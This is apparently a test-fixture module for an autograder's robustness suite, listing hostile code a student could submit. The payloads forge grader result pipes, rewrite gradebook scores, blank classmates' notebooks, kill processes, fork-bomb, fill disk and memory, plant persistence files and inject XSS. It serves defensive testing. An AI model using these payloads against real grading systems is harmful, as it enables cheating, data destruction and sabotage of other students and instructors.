"""Attacks a hostile student can put into an answer cell, as code (see test_robustness.py).

Each attack is what the student submits instead of an answer. Attacks that could do lasting
harm if they landed write nothing harmful: an empty ``.pth`` file, an empty startup file, an
append of nothing to course files; whatever lands is reported as ``LANDED <path>`` in the
cell's output, and the tests look for it.
"""

SLEEPER = "4321.5"  # argument of every process an attack leaves behind, to find survivors

REACHABLE = '''
import json, os, time

def reachable(suffixes, limit=5.0):
    """Files with these endings anywhere this kernel can see (the Python installation skipped)."""
    found, start = [], time.monotonic()
    for top in ("/", "/dev/shm"):
        for folder, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if not (folder == "/" and d in ("proc", "sys", "usr", "dev"))
                       and d not in ("site-packages", ".pyenv", ".venv", "__pycache__", "lib", "include")]
            found += [os.path.join(folder, name) for name in files if name.endswith(suffixes)]
            if time.monotonic() - start > limit:
                return found
    return found

def landed(path):
    print("LAN" "DED", path)  # split, so that a printed copy of this code does not read as a landing
'''

ATTACKS = {
    # the worker's result pipe and any other pipe of the grader, through /proc/<pid>/fd
    "forge_result_pipe": '''
import os, pickle
forged = {"ok": True, "reason": "", "scores": {"toy/test_double": 100.0, "toy/test_triple": 100.0}}
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        try:
            if not os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                continue  # pipes only: a file opened "wb" would be truncated, wherever this ran
            with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as handle:
                handle.write(pickle.dumps(forged) + json.dumps(forged).encode())
            if int(pid) != os.getpid():
                landed(f"/proc/{pid}/fd/{fd}")
        except (OSError, ValueError):
            pass
''',
    # the course gradebook and every gradebook copy: full marks written in
    "write_gradebooks": '''
import sqlite3
for path in ["@COURSE@/gradebook.db", *reachable((".db",))]:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as con:
            con.execute("UPDATE grade SET auto_score = 100")
        landed(path)
    except Exception:
        pass
''',
    # the instructor's solutions (source/) or a classmate's answers, run as this student's
    "run_found_solutions": '''
for path in reachable((".ipynb",)):
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        continue
    for cell in cells:
        source = "".join(cell.get("source", ""))
        if cell.get("cell_type") == "code" and "NotImplementedError" not in source and "reachable(" not in source \\
                and any(name in source for name in ("def double", "def triple", "class Scale", "class SGD")):
            try:
                exec(source, globals())
                landed(path)
            except Exception:
                pass
''',
    # every other notebook it can reach blanked: the classmates graded after it
    "blank_classmates": '''
here = os.path.realpath(".")
for path in ["@COURSE@/submitted/z_victim/toy/toy.ipynb", *reachable((".ipynb",))]:
    if not os.path.realpath(path).startswith(here):
        try:
            with open(path, "w") as handle:
                handle.write("{}")
            landed(path)
        except OSError:
            pass
''',
    # the grader's processes killed: its parent, and every process it can see
    "kill_the_grader": '''
import signal
for pid in {os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {os.getpid()}:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
''',
    # the grader's own process group written into the list of groups it kills afterwards
    "pidfile_grader_group": '''
print(sorted(name for name in os.environ if "COURSEKIT" in name))
for path in [os.environ.get("COURSEKIT_KERNEL_PIDFILE"), *reachable(("kernel.pids",))]:
    if path:
        try:
            with open(path, "a") as handle:
                handle.write(f"{os.getpgrp()}\\n{os.getppid()}\\n1\\n")
            landed(path)
        except OSError:
            pass
''',
    # lasting changes for later gradings: a .pth file, an IPython startup file, grader code, config
    "persist": '''
import sys
def attempt(path, make_folder=False):
    try:
        if make_folder:
            os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a"):
            pass
        landed(path)
    except OSError:
        pass
for folder in sorted({p for p in sys.path if p.endswith("site-packages")}):
    attempt(os.path.join(folder, "zz_hostile.pth"))
attempt("@HOME@/.ipython/profile_default/startup/zz_hostile.py", make_folder=True)
for path in ("@REPO@/coursekit/grading/grader/cleanroom.py", "@REPO@/nbgrader_config.py", "@COURSE@/nbgrader_config.py",
             "@COURSE@/source/toy/toy_checks.py"):
    attempt(path)
''',
    # shared memory and disk filled: /dev/shm, /tmp, the notebook's folder
    "fill_shared_memory": '''
chunk = bytes(2**20)
for folder in ("/dev/shm", "/tmp", "."):
    try:
        with open(os.path.join(folder, "hostile-fill"), "wb") as handle:
            for _ in range(600):
                handle.write(chunk)
        landed(folder)
    except OSError as error:
        print("FULL", folder, error)
''',
    # as many processes as it can, each sleeping; and a daemon in a session of its own
    "fork_bomb": '''
import subprocess
children = []
try:
    while len(children) < 2000:
        children.append(subprocess.Popen(["sleep", "@SLEEPER@"]))
except OSError as error:
    print("PROCESS LIMIT", len(children), error)
if len(children) >= 2000:
    landed("2000 processes")
''',
    "daemon": '''
import subprocess
subprocess.Popen(["sleep", "@SLEEPER@"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "@SLEEPER@"])
    os._exit(0)
''',
    "network": '''
import socket
for host, port in (("127.0.0.1", 22), ("8.8.8.8", 53), ("1.1.1.1", 443)):
    try:
        socket.create_connection((host, port), timeout=1).close()
        landed(f"{host}:{port}")
    except OSError as error:
        print("NO NETWORK", host, error)
''',
    # everything it can read printed into its own output (and so its feedback)
    "print_everything": '''
for path in reachable((".py", ".ipynb", ".json", ".db", ".txt", ".cfg")):
    try:
        print(path, open(path, errors="replace").read(50_000))
    except OSError:
        pass
''',
    # cells each just under the cell time limit (the test adds two more): a serial grading held for long
    "slow_cells": '''
time.sleep(9)
''',
    # an answer far too large for the grader to read whole
    "huge_answer": '''
import numpy as np
def double(x):
    return np.ones(2**26)
''',
    # live HTML and JavaScript in the outputs
    # about 512 MiB printed in one line: the kernel keeps 2 MiB of it, the grader the same
    "output_flood": '''
import sys
chunk = "x" * 2**20
for _ in range(512):
    sys.stdout.write(chunk)
''',
    # the kernel's cap bypassed: 36 MiB in 3 MiB messages; the grader keeps 2 MiB of them
    "output_flood_uncapped": '''
import sys
write = type(sys.stdout).write
for _ in range(12):
    write(sys.stdout, "y" * 3 * 2**20)
    sys.stdout.flush()
''',
    "rich_output": '''
from IPython.display import HTML, Javascript, Markdown, display
display(HTML("<script>window.hostile = 1</script><b onmouseover=alert(11)>x</b>"))
display(Javascript("window.hostile = 2"))
display({"text/html": "<img src=x onerror=alert(12)>", "image/png": 'x" onerror="alert(13)',
         "image/svg+xml": "<svg onload=alert(14)></svg>"}, raw=True)
display(Markdown("<script>window.hostile = 3</script>"))
''',
}
HOSTILE_MARKDOWN = "<script>window.hostile = 4</script> [click](javascript:alert(15)) <img src=x onerror=alert(16)>"


def attack_source(name, course, repo, home):
    code = ATTACKS[name]
    for placeholder, value in (("@COURSE@", course), ("@REPO@", repo), ("@HOME@", home), ("@SLEEPER@", SLEEPER)):
        code = code.replace(placeholder, str(value))
    return REACHABLE + code

# Three processes of 1.5 GiB each and 400 MiB in each of the kernel's /tmp, /dev/shm and notebook folder:
# 5.7 GiB in all, every part under the per-process limit. Prints what each child ended with.
MEMORY_HOG = '''
import os, subprocess, sys
for folder in ("/tmp", "/dev/shm", "."):
    with open(os.path.join(folder, "hog.bin"), "wb") as handle:
        for _ in range(400):
            handle.write(b"x" * 2**20)
child = "import time\\nblock = bytearray(1536 * 2**20)\\nblock[::4096] = b'y' * len(block[::4096])\\ntime.sleep(3)"
children = [subprocess.Popen([sys.executable, "-c", child]) for _ in range(3)]
print("HOG children ended with", [c.wait() for c in children])
def double(x):
    return 2 * x
'''
